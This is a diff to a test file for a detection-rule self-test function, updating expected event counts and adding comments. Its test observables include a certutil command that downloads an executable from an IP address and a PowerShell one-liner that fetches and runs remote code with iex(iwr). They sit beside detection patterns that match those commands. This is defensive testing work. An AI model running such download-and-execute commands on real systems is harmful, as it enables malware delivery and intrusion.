@@ -14,16 +14,18 @@ describe('selfTestRule', () => {
       { type: 'domain', value: 'update-check.example' },
     ];
     const result = selfTestRule(rule("    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: '-urlcache'"), observables);
+    // The command's process, the connection to its URL's address and the file it writes; the domain's query, connection and proxy request.
     expect(result).toMatchObject({
       fires: true,
-      events: 4,
+      events: 6,
       fired_on: ['cmdline: certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'],
     });
   });
 
   it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
     const observables = [{ type: 'cmdline', value: 'powershell -nop -c iex(iwr http://x)' }];
-    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 1, fired_on: [] });
+    // The process, its script block, and the lookup of and connection to the host it fetches from.
+    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 4, fired_on: [] });
     expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({
       fires: false,
       error: expect.stringMatching(/regular expression/),
